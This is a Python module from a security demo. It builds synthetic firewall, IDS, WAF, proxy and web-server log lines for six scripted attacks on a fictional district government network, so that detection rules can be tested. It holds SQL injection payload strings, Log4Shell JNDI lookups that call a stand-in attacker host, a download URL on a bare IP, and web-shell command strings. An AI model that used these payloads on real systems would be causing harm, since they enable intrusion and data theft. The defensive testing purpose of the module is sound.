"""The attacks woven into the demo day, each at a fixed local time and told by several devices.

Every story lists the rules of our own pack (``rules/sigma``) it raises, by rule id; the demo
tests run the real parsers and detection engine over the story's lines and check exactly
those. The lines are built from the story's start time and a seeded ``random.Random``, so a
story is the same every time it is told for the same day and seed.

=====  ===============  ==========================================================
time   id               what happens
=====  ===============  ==========================================================
02:10  vpn_bruteforce   SSL VPN password spraying and brute force, a tunnel comes up,
                        then an administrator login on the border firewall from the
                        jump host in the middle of the night
09:40  portal_sqli      an internet scanner sweeps the DMZ, then sqlmap against the
                        政务服务网 (WAF, IPS, IDS, nginx and the border firewall)
10:52  town_c2          a 青山镇 PC downloads an executable from a bare IP, then
                        beacons to its C2 every minute (town firewall, border, Snort)
13:32  log4shell_probe  Log4Shell (JNDI) probes against the 区卫健委 web site
15:20  lateral_mgmt     a 区卫健委 PC sweeps and port-scans the security management
                        zone (core firewall, core IPS, the jump host's own firewall)
16:35  edu_webshell     a web shell uploaded to the 区教育局 site, used, and calling
                        back out to the attacker from the DMZ
=====  ===============  ==========================================================
"""

from __future__ import annotations

import math
import random
from collections.abc import Callable
from dataclasses import dataclass

from collectors.demo import lines as ln
from collectors.demo.lines import Detection, Flow, WebRequest
from collectors.demo.scenario import address_of, asset_by_hostname, workstations

__all__ = ["STORIES", "Story", "StoryLine"]


@dataclass(frozen=True, slots=True)
class StoryLine:
    """One line of a story: when, which device (by name) and the raw bytes."""

    at: float
    device: str
    data: bytes


@dataclass(frozen=True, slots=True)
class Story:
    """An attack scenario and the alerts it must raise with ``rules/sigma``."""

    id: str
    title: str
    begins: str  # local time of day, HH:MM
    sources: tuple[str, ...]  # the attack sources its alerts name (source.ip)
    rules: tuple[str, ...]  # rule ids it raises
    build: Callable[[float, random.Random], list[StoryLine]]

    @property
    def offset(self) -> int:
        """Seconds after local midnight when the story begins."""
        hours, minutes = self.begins.split(":")
        return int(hours) * 3600 + int(minutes) * 60

    def lines(self, midnight: float, seed: int) -> list[StoryLine]:
        """The story told on the day starting at ``midnight`` (POSIX, local midnight)."""
        day = int(midnight // 86_400)
        rng = random.Random(f"{seed}:story:{self.id}:{day}")
        # devices write whole seconds: a line's time is the second it names
        told = (
            StoryLine(float(math.floor(line.at)), line.device, line.data)
            for line in self.build(midnight + self.offset, rng)
        )
        return sorted(told, key=lambda line: line.at)


def _port(rng: random.Random) -> int:
    return rng.randint(32_768, 60_999)


# -- portal_sqli: DMZ sweep, then SQL injection against the 政务服务网 ---------------------------------

PORTAL_SCANNER = "203.0.113.45"
_SQLMAP_UA = "sqlmap/1.7.11#stable (https://sqlmap.org)"
_SQLI_PAYLOADS = (
    "keyword=1%27%20AND%201=1--%20-",
    "keyword=1%27%20AND%20SLEEP(5)--%20-",
    "keyword=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-",
    "keyword=1%27%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x7176,0x71),NULL--%20-",
    "keyword=1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,0x7176))--%20-",
    "keyword=1%27%20AND%20UPDATEXML(1,CONCAT(0x2e,0x7176),1)--%20-",
    "keyword=-1%27%20UNION%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--%20-",
    "keyword=1%27%20OR%201=1--%20-",
    "keyword=1%27);WAITFOR%20DELAY%20%270:0:5%27--",
)
_SWEEP_PORTS = (22, 3389)
_VERTICAL_PORTS = (
    21,
    22,
    23,
    25,
    53,
    110,
    135,
    139,
    143,
    445,
    1433,
    1521,
    2375,
    3306,
    3389,
    5432,
    5900,
    6379,
    7001,
    8000,
    8080,
    8081,
    8443,
    8888,
    9000,
    9090,
    9200,
    11211,
    27017,
    50000,
)


def _portal_sqli(t0: float, rng: random.Random) -> list[StoryLine]:
    out: list[StoryLine] = []
    attacker = PORTAL_SCANNER
    portal, portal2 = address_of("web-zwfw-01"), address_of("web-zwfw-02")
    # 1. horizontal sweep of the DMZ on SSH and RDP: every SYN refused at the border
    t = t0
    for port in _SWEEP_PORTS:
        for host in range(1, 41):
            t += rng.uniform(0.8, 1.6)
            flow = Flow(
                attacker,
                _port(rng),
                f"10.1.10.{host}",
                port,
                app="",
                allowed=False,
                src_zone="untrust",
                dst_zone="dmz",
                rule="default_deny",
            )
            out.append(StoryLine(t, "fw-border-01", ln.usg_flow(t, "fw-border-01", flow)))
            if port == 22 and host % 3 == 1:
                det = Detection(
                    attacker,
                    flow.sport,
                    flow.dst,
                    22,
                    "ET SCAN Potential SSH Scan",
                    2001219,
                    "Attempted Information Leak",
                    3,
                    False,
                    app="SSH",
                )
                out.append(
                    StoryLine(t, "ids-core-01", ln.eve_alert(t, "ids-core-01", det, rng.getrandbits(50)))
                )
    # 2. vertical scan of the portal node: 30 ports refused, 443 let through to the published site
    for port in _VERTICAL_PORTS:
        t += rng.uniform(1.5, 3.5)
        flow = Flow(
            attacker,
            _port(rng),
            portal,
            port,
            app="",
            allowed=False,
            src_zone="untrust",
            dst_zone="dmz",
            rule="default_deny",
        )
        out.append(StoryLine(t, "fw-border-01", ln.usg_flow(t, "fw-border-01", flow)))
        if port in (22, 1433, 3306, 6379):
            det = Detection(
                attacker,
                flow.sport,
                portal,
                port,
                "ET SCAN NMAP -sS window 1024",
                2009582,
                "Attempted Information Leak",
                3,
                False,
                app="",
            )
            out.append(StoryLine(t, "ids-core-01", ln.eve_alert(t, "ids-core-01", det, rng.getrandbits(50))))
    # 3. sqlmap against the matter search API; the WAF blocks most, some get through
    t += 120
    for number, payload in enumerate(_SQLI_PAYLOADS * 7):
        t += rng.uniform(5.0, 9.0)
        node, node_ip = ("web-zwfw-01", portal) if number % 2 == 0 else ("web-zwfw-02", portal2)
        sport = _port(rng)
        uri = f"/api/v1/matter/search?{payload}&page=1"
        if number % 4 == 0:
            flow = Flow(
                attacker,
                sport,
                node_ip,
                443,
                app="HTTPS",
                src_zone="untrust",
                dst_zone="dmz",
                rule="publish_zwfw",
            )
            out.append(StoryLine(t, "fw-border-01", ln.usg_policy(t, "fw-border-01", flow)))
        det = Detection(
            attacker,
            sport,
            node_ip,
            443,
            "SQL_Injection",
            8388609,
            "SQL_Injection",
            4,
            blocked=number % 5 != 0,
            host="zwfw.gov.example",
            uri=uri,
            user_agent=_SQLMAP_UA,
        )
        out.append(StoryLine(t, "waf-zwfw-01", ln.nsfocus_websec(t, "waf-zwfw-01", det, 1)))
        if not det.blocked:
            req = WebRequest(
                attacker,
                sport,
                node_ip,
                443,
                "zwfw.gov.example",
                "GET",
                uri,
                rng.choice((200, 500)),
                rng.randint(180, 2400),
                user_agent=_SQLMAP_UA,
            )
            out.append(StoryLine(t + 0.2, node, ln.nginx_access(t + 0.2, node, req)))
        if number % 6 == 0:
            ips = Detection(
                attacker,
                sport,
                node_ip,
                443,
                "SQL Injection Attempt",
                1000237,
                "Sql-injection",
                4,
                False,
                app="HTTPS",
            )
            out.append(StoryLine(t, "ips-border-01", ln.huawei_ips(t, "ips-border-01", ips, 2000 + number)))
        if number % 9 == 0:
            ids = Detection(
                attacker,
                sport,
                node_ip,
                443,
                "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
                2006446,
                "Web Application Attack",
                4,
                False,
                host="zwfw.gov.example",
                uri=uri,
                user_agent=_SQLMAP_UA,
            )
            out.append(StoryLine(t, "ids-core-01", ln.eve_alert(t, "ids-core-01", ids, rng.getrandbits(50))))
    return out


# -- vpn_bruteforce: SSL VPN brute force, a tunnel, a night-time device login ---------------------

VPN_ATTACKER = "203.0.113.77"
JUMP_HOST = address_of("jump-01")
_SPRAYED = ("admin", "test", "zhangwei", "liuyang", "wangfang", "chenjing", "sysadmin", "vpn")
_VICTIM_USER = "zhangwei"
_TUNNEL_IP = "10.1.98.23"


def _vpn_bruteforce(t0: float, rng: random.Random) -> list[StoryLine]:
    out: list[StoryLine] = []
    fgt = "fgt-vpn-01"
    t = t0
    for _round in range(2):  # spraying: two guesses per account
        for user in _SPRAYED:
            t += rng.uniform(8.0, 13.0)
            out.append(StoryLine(t, fgt, ln.fgt_vpn_login_fail(t, fgt, user, VPN_ATTACKER)))
    t += 30
    for _guess in range(18):  # then brute force on the one account that exists and is weak
        t += rng.uniform(12.0, 17.0)
        out.append(StoryLine(t, fgt, ln.fgt_vpn_login_fail(t, fgt, _VICTIM_USER, VPN_ATTACKER)))
    t += 20
    out.append(
        StoryLine(t, fgt, ln.fgt_vpn_tunnel_up(t, fgt, _VICTIM_USER, VPN_ATTACKER, _TUNNEL_IP, 1_928_374))
    )
    t += 50
    sport = _port(rng)
    to_jump = Flow(
        _TUNNEL_IP,
        sport,
        JUMP_HOST,
        22,
        app="SSH",
        rule="SSLVPN-内网",
        sent=48_211,
        rcvd=96_305,
        sent_pkts=410,
        rcvd_pkts=388,
        duration=600,
        user=_VICTIM_USER,
    )
    # the core firewall's 运维接入 policy lets the VPN pool reach the jump host: a gap the attacker uses
    core = Flow(
        _TUNNEL_IP,
        sport,
        JUMP_HOST,
        22,
        app="ssh",
        src_zone="Remote",
        dst_zone="Management",
        rule="vpn_to_ops",
    )
    out.append(StoryLine(t, "fw-core-01", ln.h3c_filter(t, "fw-core-01", core, 41)))
    accepted = ln.iptables(t, "jump-01", "JUMP-ACCEPT", to_jump, 8_123_456.25, 31_337)
    out.append(StoryLine(t, "jump-01", accepted))
    closed = t + to_jump.duration
    out.append(StoryLine(closed, fgt, ln.fgt_traffic(closed, fgt, to_jump, rng.randint(10**7, 10**8), 7)))
    t += 330  # from the jump host, with the administrator password the user had saved there
    out.append(StoryLine(t, "fw-border-01", ln.usg_admin_login(t, "fw-border-01", "admin", JUMP_HOST, 21)))
    return out


# -- town_c2: a town PC downloads a payload and beacons to its C2 ---------------------------------

C2_SERVER = "203.0.113.66"
C2_VICTIM = asset_by_hostname("qsz-pc-023").address
_C2_PORT = 8443
_BORDER_NAT = "198.51.100.2"


def _town_c2(t0: float, rng: random.Random) -> list[StoryLine]:
    victim = next(w for w in workstations() if w.hostname == "qsz-pc-023")
    proxy = address_of("proxy-01")
    out: list[StoryLine] = []
    t = t0 + 14
    sport = _port(rng)
    to_proxy = Flow(
        victim.ip,
        sport,
        proxy,
        8080,
        app="HTTP",
        rule="乡镇上网代理",
        sent=2_310,
        rcvd=815_020,
        sent_pkts=40,
        rcvd_pkts=590,
        duration=3,
        user=victim.user,
    )
    out.append(StoryLine(t, "fw-town-01", ln.hillstone_flow(t, "fw-town-01", to_proxy, 12)))
    out.append(
        StoryLine(
            t,
            "proxy-01",
            ln.squid_access(
                t,
                "proxy-01",
                victim.ip,
                2_840,
                "TCP_MISS/200",
                812_345,
                "GET",
                f"http://{C2_SERVER}/download/wps_update.exe",
                victim.user,
                f"HIER_DIRECT/{C2_SERVER}",
                "application/x-msdownload",
                412,
            ),
        )
    )
    t = t0 + 180
    end = t0 + 98 * 60
    beacon = 0
    while t < end:
        t += rng.uniform(52.0, 68.0)
        sport = _port(rng)
        sent, rcvd = rng.randint(300, 900), rng.randint(200, 700)
        town = Flow(
            victim.ip,
            sport,
            C2_SERVER,
            _C2_PORT,
            app="SSL",
            rule="乡镇上网",
            sent=sent,
            rcvd=rcvd,
            sent_pkts=6,
            rcvd_pkts=5,
            duration=1,
            user=victim.user,
        )
        out.append(StoryLine(t, "fw-town-01", ln.hillstone_flow(t, "fw-town-01", town, 15)))
        border = Flow(
            victim.ip,
            sport,
            C2_SERVER,
            _C2_PORT,
            app="SSL",
            rule="office_to_internet",
            sent=sent,
            rcvd=rcvd,
            sent_pkts=6,
            rcvd_pkts=5,
            duration=1,
            nat_ip=_BORDER_NAT,
            nat_port=rng.randint(2_048, 65_000),
        )
        out.append(StoryLine(t + 0.3, "fw-border-01", ln.usg_flow(t + 0.3, "fw-border-01", border)))
        if beacon % 8 == 0:
            det = Detection(
                victim.ip,
                sport,
                C2_SERVER,
                _C2_PORT,
                "ET MALWARE Cobalt Strike Beacon Observed",
                2028591,
                "A Network Trojan was Detected",
                4,
                False,
            )
            out.append(StoryLine(t, "ids-town-01", ln.snort_alert(t, det, rng.randrange(1_000_000))))
        beacon += 1
    return out


# -- lateral_mgmt: lateral movement from an agency PC into the management zone --------------------

_MGMT_PORTS = (445, 3389, 135, 5985)
LATERAL_SOURCE = asset_by_hostname("wjw-pc-030").address


def _lateral_mgmt(t0: float, rng: random.Random) -> list[StoryLine]:
    pc = LATERAL_SOURCE
    jump = JUMP_HOST
    core, ips = "fw-core-01", "ips-core-01"
    out: list[StoryLine] = []
    t = t0
    for host in range(1, 61):  # ping sweep of the management network
        t += rng.uniform(0.9, 1.4)
        flow = Flow(
            pc,
            0,
            f"10.1.99.{host}",
            0,
            proto="icmp",
            app="icmp",
            allowed=False,
            src_zone="Office",
            dst_zone="Management",
            rule="deny_office_to_mgmt",
        )
        out.append(StoryLine(t, core, ln.h3c_filter(t, core, flow, 30)))
    t += 20
    out.append(StoryLine(t, ips, ln.h3c_portscan(t, ips, pc, "10.1.99.11")))
    for port in _MGMT_PORTS:  # SMB, RDP, RPC and WinRM towards every address that could answer
        for host in range(2, 37):
            t += rng.uniform(1.2, 1.9)
            flow = Flow(
                pc,
                _port(rng),
                f"10.1.99.{host}",
                port,
                app="",
                allowed=False,
                src_zone="Office",
                dst_zone="Management",
                rule="deny_office_to_mgmt",
            )
            out.append(StoryLine(t, core, ln.h3c_filter(t, core, flow, 30)))
    out.append(StoryLine(t, ips, ln.h3c_portscan(t, ips, pc, jump)))
    ports = (
        list(range(20, 26))
        + list(range(79, 90))
        + [
            110,
            111,
            135,
            139,
            143,
            161,
            389,
            443,
            445,
            636,
            873,
            1433,
            1521,
            2049,
            3306,
            3389,
            5432,
            5900,
            5985,
            8080,
        ]
    )
    for port in ports:  # then one host, port by port: the jump host
        t += rng.uniform(2.0, 4.0)
        allowed = port in (22, 3389)  # the 运维接入 policy lets these reach the jump host, which drops them
        flow = Flow(
            pc,
            _port(rng),
            jump,
            port,
            app="",
            allowed=allowed,
            src_zone="Office",
            dst_zone="Management",
            rule="ops_access" if allowed else "deny_office_to_mgmt",
        )
        out.append(StoryLine(t, core, ln.h3c_filter(t, core, flow, 31 if allowed else 30)))
        if allowed:
            drop = Flow(pc, flow.sport, jump, port, allowed=False)
            packet = rng.randint(1, 65_535)
            out.append(
                StoryLine(
                    t + 0.1,
                    "jump-01",
                    ln.iptables(t + 0.1, "jump-01", "JUMP-DROP", drop, 8_130_000.5, packet),
                )
            )
    return out


# -- edu_webshell: a web shell on the 区教育局 site ---------------------------------------------------

WEBSHELL_ATTACKER = "203.0.113.88"
EDU_SITE = address_of("web-jyj-01")
_SHELL = "/upload/images/2026/11/wxlogo.jsp"
_COMMANDS = ("whoami", "id", "ipconfig%20/all", "net%20user", "whoami%20/priv", "tasklist", "netstat%20-ano")


def _edu_webshell(t0: float, rng: random.Random) -> list[StoryLine]:
    site = address_of("web-jyj-01")
    waf = "safeline-01"
    out: list[StoryLine] = []
    t = t0 + 5
    upload = Detection(
        WEBSHELL_ATTACKER,
        _port(rng),
        site,
        80,
        "file_upload",
        10,
        "file_upload",
        4,
        False,
        host="jyj.gov.example",
        uri="/upload/uploadFile.do?type=image",
        method="POST",
        user_agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    )
    out.append(
        StoryLine(
            t,
            waf,
            ln.safeline_event(
                t, waf, upload, f"{rng.getrandbits(128):032x}", "safeline-node-01", "https://jyj.gov.example"
            ),
        )
    )
    t += 160
    for number in range(14):
        t += rng.uniform(20.0, 40.0)
        command = _COMMANDS[number % len(_COMMANDS)]
        det = Detection(
            WEBSHELL_ATTACKER,
            _port(rng),
            site,
            80,
            "backdoor",
            5,
            "backdoor",
            5,
            number % 3 != 2,
            host="jyj.gov.example",
            uri=f"{_SHELL}?pwd=3b7e&cmd={command}",
            user_agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        )
        out.append(
            StoryLine(
                t,
                waf,
                ln.safeline_event(
                    t, waf, det, f"{rng.getrandbits(128):032x}", "safeline-node-01", "https://jyj.gov.example"
                ),
            )
        )
    t += 45
    shell = Flow(
        site,
        _port(rng),
        WEBSHELL_ATTACKER,
        4444,
        app="TCP",
        src_zone="dmz",
        dst_zone="untrust",
        rule="dmz_to_internet",
        sent=184_220,
        rcvd=9_810,
        sent_pkts=320,
        rcvd_pkts=290,
        duration=420,
        nat_ip="198.51.100.12",
        nat_port=rng.randint(2_048, 65_000),
    )
    out.append(StoryLine(t + 420, "fw-border-01", ln.usg_flow(t + 420, "fw-border-01", shell)))
    database = address_of("zwfw-db-01")
    for attempt in range(3):  # from the web server towards the databases: refused by the DMZ firewall
        t += rng.uniform(30.0, 60.0)
        flow = Flow(site, _port(rng), database, 1433 if attempt else 3306, allowed=False, rule="default_deny")
        out.append(
            StoryLine(t, "fw-dmz-01", ln.topsec_ac(t, "fw-dmz-01", flow, rng.randint(10**8, 10**9), 8035))
        )
    return out


# -- log4shell_probe: Log4Shell probes ------------------------------------------------------------

LOG4SHELL_SCANNER = "203.0.113.99"
_JNDI_PATHS = ("/", "/index.jsp", "/api/login", "/jkfw/yygh/list", "/search", "/webservice/query")


def _log4shell(t0: float, rng: random.Random) -> list[StoryLine]:
    site = address_of("web-wjw-01")
    out: list[StoryLine] = []
    t = t0
    for number, path in enumerate(_JNDI_PATHS * 2):
        t += rng.uniform(3.0, 8.0)
        token = f"{rng.getrandbits(32):08x}"
        payload = f"%24%7Bjndi%3Aldap%3A%2F%2F{LOG4SHELL_SCANNER}%3A1389%2F{token}%7D"
        det = Detection(
            LOG4SHELL_SCANNER,
            _port(rng),
            site,
            80,
            "Potential Remote Command Execution: Log4j / Log4shell",
            944150,
            "attack-rce",
            5,
            True,
            host="wjw.gov.example",
            uri=f"{path}?q={payload}",
            user_agent=f"${{jndi:ldap://{LOG4SHELL_SCANNER}:1389/{token}}}",
        )
        transaction = f"Z{rng.getrandbits(120):030x}"[:24]
        out.append(
            StoryLine(
                t,
                "web-wjw-01",
                ln.modsec_audit(
                    t,
                    det,
                    transaction,
                    "/usr/share/modsecurity-crs/rules/REQUEST-944-APPLICATION-ATTACK-JAVA.conf",
                    "attack-rce",
                    True,
                ),
            )
        )
        if number % 3 == 0:
            ips = Detection(
                LOG4SHELL_SCANNER,
                det.sport,
                site,
                80,
                "Apache Log4j2 Remote Code Execution",
                1000001,
                "Vulnerability",
                4,
                True,
                cve="CVE-2021-44228",
            )
            out.append(StoryLine(t, "ips-border-01", ln.huawei_ips(t, "ips-border-01", ips, 3000 + number)))
    return out


# Rule ids of rules/sigma, by what they detect.
HORIZONTAL_SCAN = "2ab8399f-1125-5a69-bceb-2a107472c0d8"
VERTICAL_SCAN = "e953dc30-989b-5c13-8750-4947e661f09d"
ICMP_SWEEP = "0a97c2bb-c528-5112-b5ec-d405ddf3b2de"
IDS_SCAN = "66af5e54-2b39-50d2-8bfb-244b5e1a6f2a"
IDS_SPRAY = "7d3884bd-6c5c-5cb5-b296-b31358298134"
IDS_THEN_ALLOWED = "bd762a19-0522-57bc-abc1-4a2701cbbd12"
IDS_HIGH_NOT_BLOCKED = "c29b4e15-b16b-55b8-98da-f6940d09b052"
IDS_C2 = "65a2b405-7c5c-59dc-b1e6-b88bdc59c814"
WAF_BURST = "924ef231-57c8-5ef4-a4f5-c246e73cdd54"
WAF_WEBSHELL = "36800155-2ae3-5b66-9dfb-95e4931c96d9"
WEB_SQLI = "e9b0b9d5-f088-5e19-a531-ac845390b489"
WEB_SCANNER_UA = "c6242e16-1220-5080-bef3-ed4ac10a64d2"
WEB_WEBSHELL = "2b0e5928-a12e-5775-a579-8b22bc2e7e4f"
WEB_CMD_INJECTION = "1e37210c-7491-5fce-8e97-d56f964629f4"
WEB_LOG4SHELL = "bd710488-e18c-598c-afd5-2d4ee67fb65b"
AUTH_BRUTEFORCE = "9a3de70e-fc41-5c45-87b7-ae213883f5f5"
AUTH_SPRAY = "4577f737-ef05-5d55-8fb2-8f84944650d8"
AUTH_VPN_BRUTEFORCE = "87bccc1d-d2f0-5239-b0d9-36814a159194"
AUTH_OFF_HOURS = "8e0631a6-466f-54cd-a86a-32df96b6349a"
PROXY_EXE_FROM_IP = "513252d3-ade4-5a10-acf2-bb05d815fef3"
LATERAL_FAN_OUT = "f14ce241-a827-5246-9db7-8529e2bb8547"
SERVER_OUTBOUND_ODD_PORT = "75124db7-14a0-56f2-a9f0-6220be6337ec"

STORIES: tuple[Story, ...] = (
    Story(
        "vpn_bruteforce",
        "夜间 SSL VPN 口令喷洒与暴力破解得手，随后经堡垒机登录边界防火墙",
        "02:10",
        (VPN_ATTACKER, JUMP_HOST),
        (AUTH_SPRAY, AUTH_BRUTEFORCE, AUTH_VPN_BRUTEFORCE, AUTH_OFF_HOURS),
        _vpn_bruteforce,
    ),
    Story(
        "portal_sqli",
        "互联网扫描 DMZ 后对政务服务网实施 SQL 注入",
        "09:40",
        (PORTAL_SCANNER,),
        (
            HORIZONTAL_SCAN,
            VERTICAL_SCAN,
            IDS_SCAN,
            IDS_SPRAY,
            IDS_THEN_ALLOWED,
            WAF_BURST,
            WEB_SQLI,
            WEB_SCANNER_UA,
            IDS_HIGH_NOT_BLOCKED,
        ),
        _portal_sqli,
    ),
    Story(
        "town_c2",
        "青山镇办公终端从裸 IP 下载可执行文件并持续外联 C2",
        "10:52",
        (C2_VICTIM,),
        (PROXY_EXE_FROM_IP, IDS_C2, IDS_HIGH_NOT_BLOCKED, IDS_THEN_ALLOWED),
        _town_c2,
    ),
    Story(
        "log4shell_probe",
        "针对区卫健委网站的 Log4Shell 漏洞探测",
        "13:32",
        (LOG4SHELL_SCANNER,),
        (WEB_LOG4SHELL,),
        _log4shell,
    ),
    Story(
        "lateral_mgmt",
        "区卫健委终端向安全管理区探测与横向移动",
        "15:20",
        (LATERAL_SOURCE,),
        (
            ICMP_SWEEP,
            LATERAL_FAN_OUT,
            HORIZONTAL_SCAN,
            VERTICAL_SCAN,
            IDS_SCAN,
            IDS_HIGH_NOT_BLOCKED,
            IDS_THEN_ALLOWED,
        ),
        _lateral_mgmt,
    ),
    Story(
        "edu_webshell",
        "区教育局网站被植入 WebShell 并反弹连接",
        "16:35",
        (WEBSHELL_ATTACKER, EDU_SITE),
        (WAF_WEBSHELL, WEB_WEBSHELL, WEB_CMD_INJECTION, SERVER_OUTBOUND_ODD_PORT),
        _edu_webshell,
    ),
)
